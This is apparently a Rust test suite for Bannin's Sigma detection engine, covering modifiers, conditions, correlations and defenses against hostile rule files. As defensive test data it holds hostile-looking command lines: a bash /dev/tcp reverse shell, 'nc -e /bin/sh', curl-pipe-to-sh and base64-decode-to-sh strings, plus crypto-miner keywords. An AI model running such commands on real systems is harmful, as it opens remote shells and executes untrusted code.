//! The Sigma detection language as Bannin applies it: every value modifier,
//! wildcard form and condition form the specification defines, with events
//! that must match and events that must not. The rules are written here, for
//! these tests.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use super::*;

fn set(yaml: &str) -> SigmaSet {
    let parsed = parse_text(Path::new("t.yml"), yaml).expect("parses");
    let set = build(vec![(PathBuf::from("t.yml"), parsed)]).expect("compiles");
    assert!(set.refused.is_empty(), "refused: {:?}", set.refused);
    set
}

fn rule(detection: &str) -> SigmaSet {
    set(&format!(
        "title: t\nid: r1\nlogsource:\n  product: linux\n  category: process_creation\nlevel: high\ndetection:\n{detection}"
    ))
}

fn exec(pairs: &[(&str, &str)]) -> SigmaEvent<'static> {
    event("web-01", "process.exec", pairs)
}

fn event(host: &str, kind: &str, pairs: &[(&str, &str)]) -> SigmaEvent<'static> {
    let a: BTreeMap<String, String> = pairs
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect();
    SigmaEvent::from_event(host, kind, 1_000, &a)
        .expect("a Sigma event")
        .into_owned()
}

fn matches(set: &SigmaSet, e: &SigmaEvent) -> bool {
    !set.evaluate(e, "s").findings.is_empty()
}

/// Asserts which command lines a rule on `CommandLine` matches.
fn on_cmdline(detection: &str, yes: &[&str], no: &[&str]) {
    let s = rule(detection);
    for c in yes {
        assert!(
            matches(&s, &exec(&[("cmdline", c)])),
            "{detection} should match {c:?}"
        );
    }
    for c in no {
        assert!(
            !matches(&s, &exec(&[("cmdline", c)])),
            "{detection} should not match {c:?}"
        );
    }
}

#[test]
fn lists_are_or_and_maps_are_and() {
    let s = rule(
        "  sel:\n    Image|endswith:\n      - /curl\n      - /wget\n    User: root\n  condition: sel\n",
    );
    assert!(matches(
        &s,
        &exec(&[("exe", "/usr/bin/wget"), ("user", "root")])
    ));
    assert!(matches(
        &s,
        &exec(&[("exe", "/usr/bin/curl"), ("user", "root")])
    ));
    assert!(!matches(
        &s,
        &exec(&[("exe", "/usr/bin/curl"), ("user", "www")])
    ));
    assert!(!matches(
        &s,
        &exec(&[("exe", "/usr/bin/ssh"), ("user", "root")])
    ));
    // A list of maps: either map.
    let s = rule(
        "  sel:\n    - Image: /bin/nc\n    - CommandLine|contains: ' -e '\n  condition: sel\n",
    );
    assert!(matches(&s, &exec(&[("exe", "/bin/nc")])));
    assert!(matches(
        &s,
        &exec(&[("exe", "/bin/x"), ("cmdline", "x -e /bin/sh")])
    ));
    assert!(!matches(&s, &exec(&[("exe", "/bin/x"), ("cmdline", "x")])));
}

#[test]
fn null_and_empty_values() {
    let s = rule("  sel:\n    ParentImage: null\n  condition: sel\n");
    assert!(matches(&s, &exec(&[("exe", "/bin/x")])), "absent is null");
    assert!(!matches(&s, &exec(&[("parent_exe", "/bin/sh")])));
    let s = rule("  sel:\n    CommandLine: ''\n  condition: sel\n");
    assert!(matches(&s, &exec(&[("cmdline", "")])));
    assert!(!matches(&s, &exec(&[("cmdline", "ls")])));
}

#[test]
fn wildcards_escapes_and_case() {
    on_cmdline(
        "  sel:\n    CommandLine: 'curl * | ?h'\n  condition: sel\n",
        &["curl http://x | sh", "CURL x | bh"],
        &["curl x | bash", "wget x | sh"],
    );
    // Escaped wildcards are literal characters.
    on_cmdline(
        "  sel:\n    CommandLine: 'echo \\*\\?'\n  condition: sel\n",
        &["echo *?"],
        &["echo ab", "echo a?"],
    );
    // Case-insensitive by default; `cased` makes it exact.
    on_cmdline(
        "  sel:\n    CommandLine|contains|cased: 'Secret'\n  condition: sel\n",
        &["cat Secret.txt"],
        &["cat secret.txt"],
    );
    on_cmdline(
        "  sel:\n    CommandLine|contains: 'Secret'\n  condition: sel\n",
        &["cat secret.txt", "cat SECRET"],
        &["cat other"],
    );
}

#[test]
fn keywords_search_every_field() {
    let s = rule("  keywords:\n    - 'xmrig'\n    - '*stratum+tcp*'\n  condition: keywords\n");
    assert!(matches(&s, &exec(&[("exe", "/tmp/xmrig")])));
    assert!(matches(
        &s,
        &exec(&[("cmdline", "m -o stratum+tcp://pool:3333")])
    ));
    assert!(!matches(&s, &exec(&[("cmdline", "make")])));
}

#[test]
fn string_modifiers() {
    on_cmdline(
        "  sel:\n    CommandLine|startswith: 'python'\n  condition: sel\n",
        &["python3 -c x"],
        &["/usr/bin/python3"],
    );
    on_cmdline(
        "  sel:\n    CommandLine|endswith: '.sh'\n  condition: sel\n",
        &["bash run.sh"],
        &["bash run.shx"],
    );
    on_cmdline(
        "  sel:\n    CommandLine|contains|all:\n      - 'base64'\n      - '-d'\n  condition: sel\n",
        &["echo x | base64 -d | sh"],
        &["base64 x", "tar -d"],
    );
}

#[test]
fn regular_expressions_and_their_flags() {
    on_cmdline(
        "  sel:\n    CommandLine|re: '^nc(at)? .*-e'\n  condition: sel\n",
        &["nc 1.2.3.4 9 -e /bin/sh", "ncat x -e y"],
        &["NC x -e y", "ssh nc -e"],
    );
    on_cmdline(
        "  sel:\n    CommandLine|re|i: '^nc .*-e'\n  condition: sel\n",
        &["NC x -E y"],
        &["ssh"],
    );
    on_cmdline(
        "  sel:\n    CommandLine|re|m: '^second$'\n  condition: sel\n",
        &["first\nsecond\nthird"],
        &["first second"],
    );
    on_cmdline(
        "  sel:\n    CommandLine|re|s: 'a.b'\n  condition: sel\n",
        &["a\nb"],
        &["ab"],
    );
    let without_s = rule("  sel:\n    CommandLine|re: 'a.b'\n  condition: sel\n");
    assert!(!matches(&without_s, &exec(&[("cmdline", "a\nb")])));
}

#[test]
fn encodings_base64_base64offset_windash() {
    // base64 of "whoami" is d2hvYW1p.
    on_cmdline(
        "  sel:\n    CommandLine|base64: 'whoami'\n  condition: sel\n",
        &["d2hvYW1p"],
        &["whoami", "x"],
    );
    // base64offset finds the text at any offset inside a longer encoding.
    on_cmdline(
        "  sel:\n    CommandLine|base64offset|contains: 'http://'\n  condition: sel\n",
        &[
            "echo aHR0cDovL2V2aWwK | base64 -d", // "http://evil\n"
            "echo eGh0dHA6Ly9l | base64 -d",     // "xhttp://e"
            "echo eHhodHRwOi8v | base64 -d",     // "xxhttp://"
        ],
        &["echo aGVsbG8= | base64 -d"],
    );
    // windash: -, /, en dash, em dash and horizontal bar are the same dash.
    on_cmdline(
        "  sel:\n    CommandLine|windash|contains: ' -exec '\n  condition: sel\n",
        &[
            "find . -exec sh",
            "find . /exec sh",
            "find . \u{2013}exec sh",
            "find . \u{2014}exec sh",
        ],
        &["find . exec sh"],
    );
}

#[test]
fn cidr_numbers_exists_and_fieldref() {
    let conn = |ip: &str, port: &str| {
        event(
            "h",
            "net.connection",
            &[
                ("direction", "outbound"),
                ("remote_address", ip),
                ("remote_port", port),
                ("local_address", "10.0.0.5"),
                ("local_port", "40000"),
            ],
        )
    };
    let s = set(
        "title: c\nlogsource:\n  product: linux\n  category: network_connection\ndetection:\n  sel:\n    DestinationIp|cidr:\n      - 203.0.113.0/24\n      - 2001:db8::/32\n    DestinationPort|gte: 4000\n    DestinationPort|lt: 5000\n  condition: sel\n",
    );
    assert!(matches(&s, &conn("203.0.113.7", "4444")));
    assert!(matches(&s, &conn("2001:db8::1", "4000")));
    assert!(!matches(&s, &conn("198.51.100.7", "4444")));
    assert!(!matches(&s, &conn("203.0.113.7", "5000")));
    assert!(!matches(&s, &conn("203.0.113.7", "3999")));
    let s = set(
        "title: c\nlogsource:\n  product: linux\n  category: network_connection\ndetection:\n  sel:\n    SourcePort|gt: 1023\n    DestinationPort|lte: 22\n  condition: sel\n",
    );
    assert!(matches(&s, &conn("1.2.3.4", "22")));
    assert!(!matches(&s, &conn("1.2.3.4", "23")));

    let s = rule("  sel:\n    ParentCommandLine|exists: true\n  condition: sel\n");
    assert!(matches(&s, &exec(&[("parent_cmdline", "sh")])));
    assert!(!matches(&s, &exec(&[("cmdline", "sh")])));
    let s = rule("  sel:\n    CurrentDirectory|exists: false\n  condition: sel\n");
    assert!(matches(&s, &exec(&[("cmdline", "sh")])));
    assert!(!matches(&s, &exec(&[("cwd", "/")])));

    // fieldref: a process whose parent is its own executable (a fork bomb shape).
    let s = rule("  sel:\n    Image|fieldref: ParentImage\n  condition: sel\n");
    assert!(matches(
        &s,
        &exec(&[("exe", "/tmp/x"), ("parent_exe", "/tmp/x")])
    ));
    assert!(!matches(
        &s,
        &exec(&[("exe", "/tmp/x"), ("parent_exe", "/bin/sh")])
    ));
}

#[test]
fn conditions() {
    let d = "  sel_curl:\n    Image|endswith: /curl\n  sel_wget:\n    Image|endswith: /wget\n  pipe:\n    CommandLine|contains: '| sh'\n  root:\n    User: root\n";
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], bool);
    let cases: &[Case] = &[
        (
            "sel_curl and pipe",
            &[("exe", "/bin/curl"), ("cmdline", "curl x | sh")],
            true,
        ),
        (
            "sel_curl and pipe",
            &[("exe", "/bin/curl"), ("cmdline", "curl x")],
            false,
        ),
        ("sel_curl or sel_wget", &[("exe", "/bin/wget")], true),
        (
            "sel_curl and not root",
            &[("exe", "/bin/curl"), ("user", "www")],
            true,
        ),
        (
            "sel_curl and not root",
            &[("exe", "/bin/curl"), ("user", "root")],
            false,
        ),
        (
            "(sel_curl or sel_wget) and pipe",
            &[("exe", "/bin/wget"), ("cmdline", "| sh")],
            true,
        ),
        (
            "(sel_curl or sel_wget) and pipe",
            &[("exe", "/bin/ls"), ("cmdline", "| sh")],
            false,
        ),
        (
            "1 of sel_* and pipe",
            &[("exe", "/bin/wget"), ("cmdline", "x | sh")],
            true,
        ),
        (
            "1 of sel_* and pipe",
            &[("exe", "/bin/ls"), ("cmdline", "x | sh")],
            false,
        ),
        ("all of sel_*", &[("exe", "/bin/wget")], false),
        ("1 of them", &[("user", "root")], true),
        ("1 of them", &[("user", "www")], false),
        (
            "all of them",
            &[("exe", "/bin/curl"), ("cmdline", "| sh"), ("user", "root")],
            false,
        ),
        ("not 1 of sel_*", &[("exe", "/bin/ls")], true),
    ];
    for (condition, fields, expect) in cases {
        let s = rule(&format!("{d}  condition: {condition}\n"));
        assert_eq!(
            matches(&s, &exec(fields)),
            *expect,
            "{condition} on {fields:?}"
        );
    }
    let s = rule(
        "  a:\n    Image|contains: x\n  b:\n    Image|contains: y\n  condition: all of them\n",
    );
    assert!(matches(&s, &exec(&[("exe", "/xy")])));
    assert!(!matches(&s, &exec(&[("exe", "/x")])));
}

/// A connection is seen twice: open (`net.connection`) and closed
/// (`net.flow`, every connection, however short). A network_connection rule
/// matches both records, and their two matches are one finding (the same
/// fingerprint), not two.
#[test]
fn a_flow_matches_network_connection_rules_and_folds_with_the_open_connection() {
    let s = set(
        "title: c\nlogsource:\n  product: linux\n  category: network_connection\ndetection:\n  sel:\n    DestinationIp: 203.0.113.7\n    DestinationPort: 4444\n    Image|endswith: /curl\n  condition: sel\n",
    );
    let record = |kind: &str, extra: &[(&'static str, &'static str)]| {
        let mut pairs = vec![
            ("direction", "outbound"),
            ("remote_address", "203.0.113.7"),
            ("remote_port", "4444"),
            ("local_address", "10.0.0.5"),
            ("local_port", "40000"),
            ("exe", "/usr/bin/curl"),
            ("protocol", "tcp"),
        ];
        pairs.extend_from_slice(extra);
        event("web-01", kind, &pairs)
    };
    let open = s.evaluate(&record("net.connection", &[("pid", "7")]), "open");
    let closed = s.evaluate(
        &record(
            "net.flow",
            &[("pid", "7"), ("duration_ms", "300"), ("bytes_sent", "12")],
        ),
        "closed",
    );
    assert_eq!((open.findings.len(), closed.findings.len()), (1, 1));
    assert_eq!(
        crate::detect::fingerprint(&open.findings[0]),
        crate::detect::fingerprint(&closed.findings[0]),
        "{:?} {:?}",
        open.findings[0].attributes,
        closed.findings[0].attributes
    );
    let elsewhere = s.evaluate(
        &event(
            "web-01",
            "net.flow",
            &[
                ("direction", "outbound"),
                ("remote_address", "198.51.100.1"),
                ("remote_port", "4444"),
                ("exe", "/usr/bin/curl"),
            ],
        ),
        "x",
    );
    assert!(elsewhere.findings.is_empty());
}

#[test]
fn a_match_is_a_finding_with_the_rules_metadata() {
    let s = set(
        "title: Reverse shell\nid: 6f1b0c3e-0000-4000-8000-000000000001\nstatus: test\nlevel: critical\ntags:\n  - attack.execution\n  - attack.t1059.004\nfalsepositives:\n  - admins testing\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    CommandLine|contains: '/dev/tcp/'\n  condition: sel\n",
    );
    let e = exec(&[
        ("cmdline", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"),
        ("pid", "77"),
    ]);
    let m = s.evaluate(&e, "process bash (pid 77)");
    assert_eq!(m.findings.len(), 1);
    let f = &m.findings[0];
    assert_eq!(f.kind, "sigma.match");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.host_id.as_str(), "web-01");
    assert_eq!(f.attributes["sigma.title"], "Reverse shell");
    assert_eq!(
        f.attributes["sigma.id"],
        "6f1b0c3e-0000-4000-8000-000000000001"
    );
    assert_eq!(f.attributes["sigma.level"], "critical");
    assert_eq!(f.attributes["sigma.status"], "test");
    assert_eq!(
        f.attributes["sigma.tags"],
        "attack.execution,attack.t1059.004"
    );
    assert_eq!(f.attributes["sigma.falsepositives"], "admins testing");
    assert_eq!(f.attributes["sigma.file"], "t.yml");
    assert_eq!(f.attributes["attack.technique"], "T1059.004");
    assert_eq!(f.attributes["event.ProcessId"], "77");
    assert!(f.summary.contains("Reverse shell"), "{}", f.summary);
    // Levels map to severities; no level is medium.
    assert_eq!(severity_of(Some(Level::Informational)), Severity::Info);
    assert_eq!(severity_of(None), Severity::Medium);
}

#[test]
fn rules_bannin_cannot_apply_are_refused_with_the_reason() {
    let docs = [
        (
            "windows",
            "logsource:\n  product: windows\n  category: process_creation\ndetection:\n  s:\n    Image: x\n  condition: s\n",
            "product \"windows\"",
        ),
        (
            "service",
            "logsource:\n  product: linux\n  service: auditd\ndetection:\n  s:\n    type: EXECVE\n  condition: s\n",
            "service \"auditd\"",
        ),
        (
            "category",
            "logsource:\n  product: linux\n  category: file_delete\ndetection:\n  s:\n    TargetFilename: x\n  condition: s\n",
            "category \"file_delete\"",
        ),
        (
            "field",
            "logsource:\n  product: linux\n  category: process_creation\ndetection:\n  s:\n    LogonId: 7\n  condition: s\n",
            "field LogonId is not provided for process_creation",
        ),
        (
            "hostname",
            "logsource:\n  product: linux\n  category: network_connection\ndetection:\n  s:\n    DestinationHostname|endswith: .onion\n  condition: s\n",
            "DestinationHostname is not available",
        ),
        (
            "fieldref",
            "logsource:\n  product: linux\n  category: process_creation\ndetection:\n  s:\n    Image|fieldref: OriginalFileName\n  condition: s\n",
            "field OriginalFileName",
        ),
        (
            "expand",
            "logsource:\n  product: linux\n  category: process_creation\ndetection:\n  s:\n    Image|expand: '%bins%'\n  condition: s\n",
            "expand modifier",
        ),
    ];
    let mut text = String::new();
    for (title, body, _) in &docs {
        text.push_str(&format!("title: {title}\n{body}---\n"));
    }
    text.push_str("title: ok\nid: ok-1\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  s:\n    Image: /x\n  condition: s\n---\ntitle: dup\nid: ok-1\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  s:\n    Image: /y\n  condition: s\n---\ntitle: corr\ncorrelation:\n  type: event_count\n  rules:\n    - missing-rule\n  timespan: 1m\n  condition:\n    gte: 2\n");
    let parsed = parse_text(Path::new("r.yml"), &text).expect("parses");
    let s = build(vec![(PathBuf::from("r.yml"), parsed)]).expect("compiles");
    assert_eq!(s.rules.len(), 1, "only `ok` loads: {:?}", s.rules);
    for (title, _, reason) in docs {
        let r = s
            .refused
            .iter()
            .find(|r| r.title == title)
            .unwrap_or_else(|| panic!("{title} refused"));
        assert!(r.reason.contains(reason), "{title}: {}", r.reason);
    }
    let dup = s.refused.iter().find(|r| r.title == "dup").expect("dup");
    assert!(dup.reason.contains("already used"), "{}", dup.reason);
    let corr = s.refused.iter().find(|r| r.title == "corr").expect("corr");
    assert!(corr.reason.contains("missing-rule"), "{}", corr.reason);
}

#[test]
fn a_broken_file_fails_the_load_and_names_the_file() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir(dir.path().join("pack")).expect("mkdir");
    std::fs::write(
        dir.path().join("pack/good.yml"),
        "title: g\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  s:\n    Image: /x\n  condition: s\n",
    )
    .expect("write");
    std::fs::write(dir.path().join("pack/notes.txt"), "not a rule").expect("write");
    // A last value ending in dashes is the value, not a separator.
    let dashes = parse_text(
        Path::new("d.yml"),
        "title: t\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  s:\n    Image: /x\n  condition: s\nfalsepositives:\n  - ends in dashes---\n",
    )
    .expect("parses");
    assert_eq!(dashes.rules[0].falsepositives, ["ends in dashes---"]);
    // (A trailing document separator leaves an empty document: not an error.)
    std::fs::write(
        dir.path().join("pack/trailing.yml"),
        "title: t\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  s:\n    Image: /y\n  condition: s\n---\n",
    )
    .expect("write");
    let good = load(&[dir.path().to_owned()]).expect("loads");
    assert_eq!((good.rules.len(), good.files), (2, 2));
    std::fs::write(
        dir.path().join("pack/broken.yml"),
        "title: b\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  s:\n    Image: /x\n  condition: s and nothere\n",
    )
    .expect("write");
    let error = load(&[dir.path().to_owned()]).expect_err("broken");
    let text = error.to_string();
    assert!(text.contains("broken.yml"), "{text}");
    std::fs::write(dir.path().join("pack/broken.yml"), "title: [unclosed\n").expect("write");
    let text = load(&[dir.path().to_owned()])
        .expect_err("yaml")
        .to_string();
    assert!(text.contains("broken.yml"), "{text}");
}

/// Feeds events through a set's correlation engine, as the writer does.
fn correlate(s: &SigmaSet, events: &[(SigmaEvent<'static>, i64)]) -> Vec<NewFinding> {
    let mut engine = s.correlation_engine().expect("correlations");
    let mut out = Vec::new();
    for (e, at) in events {
        let mut e = e.clone();
        e.observed_unix_ms = at * 1000;
        let m = s.evaluate(&e, "x");
        if !m.feed.is_empty() {
            out.extend(s.correlate(&mut engine, &e, m.feed));
        }
    }
    out
}

const WHOAMI: &str = "title: whoami\nname: whoami\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  s:\n    Image|endswith: /whoami\n  condition: s\n---\ntitle: id\nname: id-cmd\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  s:\n    Image|endswith: /id\n  condition: s\n---\n";

#[test]
fn event_count_across_hosts_fires_once_per_crossing() {
    let s = set(&format!(
        "{WHOAMI}title: recon on many hosts\nid: c-1\nlevel: high\ncorrelation:\n  type: event_count\n  rules:\n    - whoami\n  timespan: 5m\n  condition:\n    gte: 3\n"
    ));
    let who = |h: &str| event(h, "process.exec", &[("exe", "/usr/bin/whoami")]);
    assert!(
        s.evaluate(&who("a"), "x").findings.is_empty(),
        "generate: false keeps the rule quiet on its own"
    );
    let out = correlate(
        &s,
        &[
            (who("a"), 100),
            (who("b"), 110),
            (who("c"), 120),
            (who("d"), 130),
        ],
    );
    assert_eq!(out.len(), 1, "{out:?}");
    let f = &out[0];
    assert_eq!(f.kind, "sigma.correlation");
    assert_eq!(f.attributes["hosts"], "a,b,c");
    assert_eq!(f.attributes["sigma.correlation"], "event_count");
    assert_eq!(f.severity, Severity::High);
    // Outside the window nothing fires.
    let late = correlate(&s, &[(who("a"), 100), (who("b"), 500), (who("c"), 900)]);
    assert!(late.is_empty(), "{late:?}");
}

#[test]
fn value_count_temporal_and_ordered_group_by_fields() {
    let s = set(&format!(
        "{WHOAMI}title: one user on many hosts\nid: vc\ncorrelation:\n  type: value_count\n  rules:\n    - whoami\n  group-by:\n    - User\n  timespan: 10m\n  condition:\n    field: HostId\n    gte: 2\n"
    ));
    let who = |h: &str, u: &str| {
        event(
            h,
            "process.exec",
            &[("exe", "/usr/bin/whoami"), ("user", u)],
        )
    };
    let out = correlate(
        &s,
        &[
            (who("a", "eve"), 1),
            (who("a", "eve"), 2),
            (who("b", "bob"), 3),
        ],
    );
    assert!(out.is_empty(), "two hosts, but two users: {out:?}");
    let out = correlate(&s, &[(who("a", "eve"), 1), (who("b", "eve"), 2)]);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].attributes["sigma.group"], "User=eve");

    let ordered = set(&format!(
        "{WHOAMI}title: whoami then id\nid: to\ncorrelation:\n  type: temporal_ordered\n  rules:\n    - whoami\n    - id-cmd\n  group-by:\n    - HostId\n  timespan: 1m\n"
    ));
    let id = |h: &str| event(h, "process.exec", &[("exe", "/usr/bin/id")]);
    let whoami = |h: &str| event(h, "process.exec", &[("exe", "/usr/bin/whoami")]);
    assert!(
        correlate(&ordered, &[(id("a"), 1), (whoami("a"), 2)]).is_empty(),
        "wrong order"
    );
    assert!(
        correlate(&ordered, &[(whoami("a"), 1), (id("b"), 2)]).is_empty(),
        "two hosts"
    );
    assert_eq!(
        correlate(&ordered, &[(whoami("a"), 1), (id("a"), 2)]).len(),
        1
    );

    let temporal = set(&format!(
        "{WHOAMI}title: both\nid: tp\ncorrelation:\n  type: temporal\n  rules:\n    - whoami\n    - id-cmd\n  group-by:\n    - HostId\n  timespan: 1m\n"
    ));
    assert_eq!(
        correlate(&temporal, &[(id("a"), 1), (whoami("a"), 2)]).len(),
        1
    );
    assert!(correlate(&temporal, &[(id("a"), 1), (whoami("a"), 200)]).is_empty());
}

#[test]
fn attack_techniques_come_from_tags() {
    let t = |v: &[&str]| attack_technique(&v.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>());
    assert_eq!(
        t(&["attack.execution", "attack.t1059"]),
        Some("T1059".into())
    );
    assert_eq!(t(&["attack.t1059.004"]), Some("T1059.004".into()));
    assert_eq!(t(&["attack.ta0002", "cve.2021-44228"]), None);
}

#[test]
fn initiated_reads_as_sysmon_writes_it() {
    let s = set(
        "title: c\nlogsource:\n  product: linux\n  category: network_connection\ndetection:\n  sel:\n    Initiated: 'true'\n    DestinationPort: 9000\n  condition: sel\n",
    );
    let conn = |direction: &str| {
        event(
            "h",
            "net.connection",
            &[
                ("direction", direction),
                ("remote_address", "10.0.0.9"),
                ("remote_port", "9000"),
                ("local_address", "10.0.0.5"),
                ("local_port", "9000"),
            ],
        )
    };
    assert!(matches(&s, &conn("outbound")));
    assert!(!matches(&s, &conn("inbound")));
}

// ---- Hostile rule files and hostile events (issue: bounded loading and evaluation) ----

fn load_error(yaml: &str) -> String {
    match parse_text(Path::new("hostile.yml"), yaml) {
        Err(e) => e.to_string(),
        Ok(parsed) => match build(vec![(PathBuf::from("hostile.yml"), parsed)]) {
            Err(e) => e.to_string(),
            Ok(set) => set
                .refused
                .iter()
                .map(|r| r.reason.clone())
                .collect::<Vec<_>>()
                .join("; "),
        },
    }
}

const HEAD: &str = "title: t\nid: r1\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    CommandLine|contains: x\n";

#[test]
fn a_deep_condition_is_refused_before_it_is_parsed_even_on_a_small_stack() {
    // 8,000 `not`s overflowed the stack of a reload; 30,000 parentheses made
    // an error too large for a gRPC header.
    for condition in [
        format!("{}sel", "not ".repeat(8000)),
        format!("{}sel{}", "(".repeat(30_000), ")".repeat(30_000)),
    ] {
        let yaml = format!("{HEAD}  condition: {condition}\n");
        // A 256 KiB stack: the check itself must not recurse.
        let error = std::thread::Builder::new()
            .stack_size(256 * 1024)
            .spawn(move || load_error(&yaml))
            .expect("thread")
            .join()
            .expect("no stack overflow");
        assert!(error.starts_with("hostile.yml: "), "{error}");
        assert!(error.contains("the limit is 64"), "{error}");
        assert!(error.len() < 300, "a short reason: {}", error.len());
    }
    // As deep as the limit: loads.
    let yaml = format!("{HEAD}  condition: {}sel\n", "not ".repeat(10));
    assert!(load_error(&yaml).is_empty());
}

#[test]
fn a_condition_longer_than_4_kib_is_refused() {
    let names: Vec<String> = (0..1000).map(|i| format!("s{i}")).collect();
    let yaml = format!("{HEAD}  condition: {}\n", names.join(" or "));
    let error = load_error(&yaml);
    assert!(error.contains("the limit is 4096"), "{error}");
}

#[test]
fn deep_yaml_flow_nesting_is_refused_at_once() {
    let yaml = format!(
        "{HEAD}  condition: sel\nx: {}{}\n",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let started = std::time::Instant::now();
    let error = load_error(&yaml);
    assert!(error.contains("nest deeper than 64"), "{error}");
    // Linear: a scan of 200 KB. (Generous: this asserts the algorithm, not the machine.)
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
}

#[test]
fn a_regex_too_large_to_compile_small_is_refused_by_name_and_the_rest_loads() {
    let yaml = "title: big\nid: big\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    CommandLine|re: '(\\w+\\s?){1,200}z'\n  condition: sel\n---\ntitle: small\nid: small\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    CommandLine|re: 'curl .*\\| *sh'\n  condition: sel\n";
    let parsed = parse_text(Path::new("r.yml"), yaml).expect("parses");
    let set = build(vec![(PathBuf::from("r.yml"), parsed)]).expect("builds");
    assert_eq!(set.rules.len(), 1, "{:?}", set.refused);
    assert_eq!(set.rules[0].key, "small");
    assert_eq!(set.refused.len(), 1);
    assert!(
        set.refused[0]
            .reason
            .contains("compiled size limit 1048576 bytes"),
        "{}",
        set.refused[0].reason
    );
    assert!(matches(&set, &exec(&[("cmdline", "curl http://x | sh")])));
}

#[test]
fn long_fields_are_cut_before_matching_and_the_cut_is_marked() {
    let s = rule("  sel:\n    CommandLine|startswith: 'python3 -c'\n  condition: sel\n");
    let long = format!("python3 -c {}", "é".repeat(100_000));
    let e = exec(&[("cmdline", &long)]);
    assert_eq!(e.truncated, vec!["CommandLine"]);
    let m = s.evaluate(&e, "s");
    assert_eq!(m.findings.len(), 1);
    let f = &m.findings[0];
    assert_eq!(f.attributes["sigma.truncated"], "CommandLine");
    assert!(f.attributes["event.CommandLine"].len() <= fields::MAX_FIELD_BYTES);
    // What lies past the cut is not matched.
    let s = rule("  sel:\n    CommandLine|endswith: 'tail'\n  condition: sel\n");
    assert!(!matches(&s, &exec(&[("cmdline", &format!("{long}tail"))])));
    assert!(matches(&s, &exec(&[("cmdline", "short tail")])));
}

#[test]
fn a_rule_that_keeps_exceeding_its_time_is_disabled_once_with_a_finding() {
    let mut s = rule("  sel:\n    CommandLine|contains: 'x'\n  condition: sel\n");
    // Every evaluation counts as slow: each event is a strike.
    s.limits = EvalLimits {
        slow_event: std::time::Duration::ZERO,
        slow_rule: std::time::Duration::ZERO,
        strikes: 3,
        batch_budget: std::time::Duration::MAX,
    };
    let e = exec(&[("cmdline", "x")]);
    let kinds = |m: &Matches| {
        m.findings
            .iter()
            .map(|f| f.kind.clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(kinds(&s.evaluate(&e, "s")), ["sigma.match"]);
    assert_eq!(kinds(&s.evaluate(&e, "s")), ["sigma.match"]);
    assert!(s.disabled("r1").is_none());
    let third = s.evaluate(&e, "s");
    assert_eq!(kinds(&third), ["sigma.rule_disabled", "sigma.match"]);
    let f = &third.findings[0];
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.attributes["sigma.id"], "r1");
    assert!(f.summary.contains("bannin rules reload"), "{}", f.summary);
    assert!(s.disabled("r1").is_some_and(|r| r.contains("3 times")));
    // Out of force: no match, and no second finding.
    assert!(s.evaluate(&e, "s").findings.is_empty());
}

#[test]
fn a_spent_batch_budget_skips_and_counts_the_rest() {
    let s = rule("  sel:\n    CommandLine|contains: 'x'\n  condition: sel\n");
    let e = exec(&[("cmdline", "x")]);
    let mut budget = Budget::new(std::time::Duration::ZERO);
    assert!(s.evaluate_within(&e, "s", &mut budget).findings.is_empty());
    assert!(s.evaluate_within(&e, "s", &mut budget).findings.is_empty());
    assert_eq!(budget.skipped, 2);
    let mut budget = Budget::new(std::time::Duration::from_secs(60));
    assert_eq!(s.evaluate_within(&e, "s", &mut budget).findings.len(), 1);
    assert_eq!(budget.skipped, 0);
}

#[test]
fn a_wide_condition_loads_evaluates_and_drops_on_a_small_stack() {
    // 450 `or`s in a row (as many as 4 KiB holds) do not nest for the
    // parsers, but a tree built from them could, for evaluation and for drop.
    let names: Vec<String> = (0..450).map(|i| format!("s{i:x}")).collect();
    let selections: String = names
        .iter()
        .map(|n| format!("  {n}:\n    CommandLine|contains: '{n}x'\n"))
        .collect();
    let yaml = format!(
        "title: t\nid: wide\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n{selections}  condition: {}\n",
        names.join(" or ")
    );
    let outcome = std::thread::Builder::new()
        .stack_size(512 * 1024)
        .spawn(move || {
            let parsed = parse_text(Path::new("wide.yml"), &yaml).expect("parses");
            let set = build(vec![(PathBuf::from("wide.yml"), parsed)]).expect("builds");
            let hit = matches(&set, &exec(&[("cmdline", "run s1c1x")]));
            drop(set);
            hit
        })
        .expect("thread")
        .join();
    assert!(
        matches!(outcome, Ok(true)),
        "no stack overflow, and a match"
    );
}
